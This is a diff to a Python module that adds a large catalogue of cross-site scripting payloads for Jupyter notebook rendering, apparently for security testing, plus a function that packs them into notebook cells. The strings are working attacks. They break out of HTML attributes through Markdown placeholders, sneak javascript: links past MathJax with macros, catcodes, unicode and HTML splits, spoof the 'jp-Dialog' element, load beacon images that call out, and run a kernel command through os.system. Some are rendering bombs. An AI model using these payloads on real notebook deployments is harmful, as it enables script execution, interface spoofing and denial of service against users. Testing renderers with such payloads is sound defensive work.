@@ -392,3 +392,110 @@ SETUP = (
     "from IPython.display import HTML, IFrame, Image, Javascript, Markdown, Video, display\n"
     "import ipywidgets as w"
 )
+
+
+# Markdown and TeX. What the page takes out of Markdown as mathematics and puts back, unescaped for
+# quotes, leaves an attribute by this; it acts without a click.
+_LEAVES = (
+    '" style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="HIT" b="'
+)
+_PLACEHOLDERS = {
+    "a placeholder in an address": f"[x](https://a/@\\@0@@) and ${_LEAVES}$",
+    "a placeholder in a title": f'[x](https://a "@\\@0@@") and ${_LEAVES}$',
+    "a placeholder in a reference": f"[x][r] and ${_LEAVES}$\n\n[r]: https://a/@\\@0@@",
+    "a placeholder in an autolink": f"<https://a/@&#64;0@@> and ${_LEAVES}$",
+    "a placeholder by an entity": f"[x](https://a/@&commat;0@@) and ${_LEAVES}$",
+    "a placeholder of displayed mathematics": f"[x](https://a/&#x40;@0@@) and $${_LEAVES}$$",
+    "a placeholder of an environment": f"[x](https://a/@\\@0@@)\n\\begin{{x}}{_LEAVES}\\end{{x}}",
+    "a placeholder of brackets": f"[x](https://a/@\\@0@@) and \\\\({_LEAVES}\\\\)",
+    "a placeholder in an info string": f"```@&#64;0@@\nx\n```\n\n${_LEAVES}$",
+    "a placeholder in a picture's text": f"![@\\@0@@](https://a/x.png) and ${_LEAVES}$",
+    "mathematics in an address": f"[x](https://a/${_LEAVES.replace(' ', chr(9))}$)",
+    "mathematics in an address, in brackets": f"[x](<https://a/${_LEAVES}$>)",
+    "mathematics in a title": f"[x](https://a '${_LEAVES}$')",
+    "mathematics of a brace left open": f"$ {{ $ [x](https://a/$}}{_LEAVES}$)",
+    "mathematics over two code spans": f"`$` [x](https://a/`{_LEAVES}$)",
+    "mathematics in an attribute": f"<a title=$>{_LEAVES}$>x</a>",
+    "a task that is none": "- [ ](javascript:HIT)\n- [x]: javascript:HIT",
+    "an expression for the kernel": "{eval}`__import__('os').system('touch pwned')` :::{raw} HIT",
+}
+# A link, a class, an id, an address to load, a command: none of them may come out of MathJax.
+_TEX = {
+    "a link": r"$\href{javascript:HIT}{click}$",
+    "a link with a space": r"$\href {java script:HIT}{click}$",
+    "a link by an argument": r"$\text\href{javascript:HIT}{click}$",
+    "a link in text": r"$\text{a $\href{javascript:HIT}{click}$ b}$",
+    "a link in text in brackets": r"$\mbox{a \(\href{javascript:HIT}{click}\) b}$",
+    "a link in an environment": "\\begin{align}a&=b\\\\\\href{javascript:HIT}{click}\\end{align}",
+    "a link in another environment": r"\begin{\href{javascript:HIT}{click}}x\end{x}",
+    "a link after a comment": "$% $\n\\href{javascript:HIT}{click}$",
+    "a link whose name a comment splits": "$\\hre%\nf{javascript:HIT}{click}$",
+    "a link over two lines": "$\\href\n{javascript:HIT}\n{click}$",
+    "a link after an escaped dollar": r"\$ $\href{javascript:HIT}{click}$",
+    "a link after a new line": r"$x\\\href{javascript:HIT}{click}$",
+    "a link by a definition": r"$\def\x{\href{javascript:HIT}{click}}\x$",
+    "a link by a name in parts": r"$\csname hr\endcsname\csname ef\endcsname{javascript:HIT}{c}$",
+    "a link by let": r"$\let\x=\href \x{javascript:HIT}{click}$",
+    "a link by a new command": r"$\newcommand{\x}[2]{\href{#1}{#2}}\x{javascript:HIT}{click}$",
+    "a link by an active character": r"$\catcode`\~=13 \def~{\href}~{javascript:HIT}{click}$",
+    "a link by unicode": r"$\unicode{x5c}href{javascript:HIT}{click}$",
+    "a link by letters of the same look": "$\\hr\uff45f{javascript:HIT}{x}\\\u210eref{javascript:HIT}{c}$",
+    "a reference": r"$x\tag{a}\label{b}$ \eqref{b}",
+    "a class": r"$\class{jp-Dialog}{x}$",
+    "an id": r"$\cssId{pwned-overlay}{x}$",
+    "a style": r"$\style{position:fixed;inset:0;background:url(BEACON/tex.png);--pwned:1}{x}$",
+    "data of a command": rf"$\data{{commandlinker-command={_COMMAND}}}{{click}}$",
+    "a token": r"$\mmlToken{mi}[href='javascript:HIT' class='jp-Dialog' id='pwned-overlay']{click}$",
+    "a picture": r"$\includegraphics{BEACON/tex.png}$",
+    "an action": r"$\toggle{\href{javascript:HIT}{a}}{b}\endtoggle\mathtip{a}{\href{javascript:HIT}{b}}$",
+    "a package": r"$\require{html}\require{BEACON/tex}\href{javascript:HIT}{click}$",
+    "verbatim": r"$\verb|$|\href{javascript:HIT}{click}$",
+    "a box's style": r"$\bbox[background:url(BEACON/bbox.png),border:9px solid]{x}$",
+    "a column's preamble": r"$\begin{array}{>{\href{javascript:HIT}{click}}c}x\end{array}$",
+    "a rule over the page": r"$\raise 99em{\rule{9999em}{9999em}}$",
+    "columns without end": r"\begin{alignat}{999999999}x\end{alignat}",
+    "a bomb": "$" + r"\pmb{" * 40 + "x" + "}" * 40 + "$",
+    "depth": "$" + "{" * 20_000 + "$",
+    "styles without end": "$" + r"\displaystyle\\" * 20_000 + "$",
+}
+# HTML in which MathJax would find one of them.
+_TEX_IN_HTML = {
+    "entities": "$&#92;href{javascript:HIT}{click}$",
+    "entities, all of it": "&#36;&bsol;h&#x72;ef&lbrace;javascript&colon;HIT}{click}&dollar;",
+    "an entity without its end": "$&#92href{javascript:HIT}{click}$",
+    "a name that a tag splits": "$\\hr<b></b>ef{javascript:HIT}{click}$",
+    "a name that an unknown tag splits": "$\\hr<x-y></x-y>ef{javascript:HIT}{click}$",
+    "a name that a stray end tag splits": "$\\hr</b>ef{javascript:HIT}{click}$",
+    "a name that a misplaced tag splits": "$\\hr<tr></tr>ef{javascript:HIT}{click}$",
+    "a name that a possible break splits": "$\\hr<wbr>ef{javascript:HIT}{click}$",
+    "a name that a comment splits": "$\\hr<!-- -->ef{javascript:HIT}{click}$",
+    "a name that a style splits": "$\\hr<style>.dataframe td{text-align:left}</style>ef{javascript:HIT}{c}$",
+    "a name that a ruby splits": "$\\hr<ruby></ruby>ef{javascript:HIT}{click}$",
+    "a formula over lines": "$<br>\\href<br>{javascript:HIT}{click}<br>$",
+    "a formula over pandas' cells": "<table><tr>$<td>x</td>\\href{javascript:HIT}{click}$</tr></table>",
+    "the end of a wrapper": "</div></div></span>$\\href{javascript:HIT}{click}$",
+    "a processed class": '<b class="mathjax_process tex2jax_process">$\\href{javascript:HIT}{c}$</b>',
+    "an ignored class that ends": '<b class="mathjax_ignore">$x$</b>$\\href{javascript:HIT}{click}$',
+}
+
+
+def mathematics_payloads(beacon: str) -> dict[str, list[Payload]]:
+    """Payloads of Markdown and TeX, by what they use; their beacons lead to that address."""
+    shown = {
+        "placeholders": (("Markdown",), _PLACEHOLDERS),
+        "tex": (("Markdown", "Latex", "HTML", "w.HTMLMath"), _TEX),
+        "html": (("HTML", "Markdown", "w.HTMLMath"), _TEX_IN_HTML),
+    }
+    return {
+        use: [
+            Payload(f"{name}, {kind}", _mathematics_cell(kind, text, f"{use}{number}", beacon))
+            for number, (name, text) in enumerate(texts.items())
+            for kind in kinds
+        ]
+        for use, (kinds, texts) in shown.items()
+    }
+
+
+def _mathematics_cell(kind: str, text: str, name: str, beacon: str) -> str:
+    code = f"display({kind}({text!r}))".replace("HIT", _in_literal(_HIT))
+    return code.replace("NAME", name).replace("BEACON", f"{beacon}/{name}")
